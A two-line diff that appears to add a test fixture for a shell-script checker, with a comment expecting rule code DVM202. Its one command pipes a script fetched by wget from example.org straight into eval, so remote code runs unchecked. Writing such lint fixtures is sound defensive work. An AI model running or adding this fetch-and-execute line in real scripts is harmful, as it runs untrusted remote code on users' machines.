@@ -1,0 +1,2 @@
+# expect: DVM202
+eval "$(wget -qO - https://example.org/env.sh)"
